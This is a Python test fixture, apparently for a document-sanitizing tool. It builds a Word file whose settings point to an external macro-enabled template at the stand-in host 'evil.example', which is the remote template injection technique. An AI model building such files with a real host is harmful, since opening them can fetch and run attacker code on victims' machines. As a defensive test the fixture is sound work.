"""A Word file whose template lies elsewhere."""

from __future__ import annotations

import io
import zipfile

from tests.hostile.foreign import paragraph, word

_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_TYPE}" Target="https://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)


def with_template() -> bytes:
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(word(paragraph("เรื่อง ก")))) as old,
        zipfile.ZipFile(made, "w") as new,
    ):
        for name in old.namelist():
            content = old.read(name)
            if name == "word/settings.xml":
                tag = (
                    b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument'
                )
                tag += b'/2006/relationships" r:id="rId1"/></w:settings>'
                content = content.replace(b"</w:settings>", tag)
            new.writestr(name, content)
        new.writestr("word/_rels/settings.xml.rels", _RELATIONS)
    return made.getvalue()
